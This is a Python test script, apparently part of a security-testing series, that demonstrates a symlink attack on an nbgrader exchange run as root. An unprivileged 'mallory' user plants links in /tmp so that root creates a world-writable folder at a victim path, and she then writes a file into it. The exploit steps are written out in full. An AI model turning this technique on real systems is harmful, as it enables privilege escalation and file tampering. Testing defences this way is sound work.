"""a03: the TA's exchange command creates a missing exchange root BEFORE it checks the folders above it.
GuardedExchange._check_root(): `os.makedirs(dirname(root)); os.mkdir(root, 0o700); os.chmod(root, 0o1777)` by path,
then lstat(root), then the walk up that refuses a folder above owned by another user. So where the configured root
(say /tmp/nbx/exchange, or /tmp/nbx/x/exchange) does not exist yet and a student may create a name on the way, the
TA (root) creates a world-writable sticky folder wherever the student's link points, and only then refuses.
 A: mallory (uid 65534) makes /tmp/a47nbx a symlink to VICTIM (root's folder, stands for /etc, site-packages...).
    (on this host fs.protected_symlinks=0; where it is 1 root does not follow her link in /tmp)
 B: mallory makes a real folder /tmp/a47nby of her own, with x -> VICTIM2 in it (root follows links in her own
    folder whatever protected_symlinks says); root = /tmp/a47nby/x/exchange.
TA runs `nbgrader release_assignment ps1_memory` as root in the course folder (canaries in env)."""
import os, subprocess, shutil, sys
from harness import *

d = course("a03")
VICTIM = "tests/attacks/round47/a03_victim_A"; VICTIM2 = "tests/attacks/round47/a03_victim_B"
for v in (VICTIM, VICTIM2):
    shutil.rmtree(v, ignore_errors=True); os.makedirs(v, 0o755)
for p in ("/tmp/a47nbx", "/tmp/a47nby"):
    if os.path.islink(p): os.unlink(p)
    else: shutil.rmtree(p, ignore_errors=True)
def student(script):
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script],
                       capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    print("student:", r.returncode, r.stdout.strip(), r.stderr.strip()[-500:])
def ta(root, *args):
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", *args, "--Exchange.root=" + root, "--CourseDirectory.course_id=distcourse"],
                       cwd=d, env=ENV, capture_output=True, text=True)
    print("$ nbgrader", " ".join(args), "--Exchange.root=" + root, "->", r.returncode)
    print("   ", (r.stdout + r.stderr).strip().replace("\n", "\n    ")[-1200:])
print("== A: /tmp/a47nbx -> VICTIM (mallory's link in /tmp)")
student(f'import os; os.symlink("{VICTIM}", "/tmp/a47nbx"); print(os.readlink("/tmp/a47nbx"))')
ta("/tmp/a47nbx/exchange", "release_assignment", "ps1_memory")
print(subprocess.run(["ls", "-la", VICTIM], capture_output=True, text=True).stdout)
print("== B: /tmp/a47nby (mallory's folder) / x -> VICTIM2")
student(f'import os; os.mkdir("/tmp/a47nby", 0o755); os.symlink("{VICTIM2}", "/tmp/a47nby/x")')
ta("/tmp/a47nby/x/exchange", "release_assignment", "ps1_memory")
print(subprocess.run(["ls", "-la", VICTIM2], capture_output=True, text=True).stdout)
print("== mallory writes into what root made")
student(f'''
import os
for v in ("{VICTIM}", "{VICTIM2}"):
    try:
        open(v + "/exchange/planted-by-mallory", "w").write("x"); print("wrote", v + "/exchange/planted-by-mallory")
    except Exception as e: print(v, e)
''')
print(subprocess.run(["find", VICTIM, VICTIM2, "-ls"], capture_output=True, text=True).stdout)
os.unlink("/tmp/a47nbx"); shutil.rmtree("/tmp/a47nby"); shutil.rmtree(d)
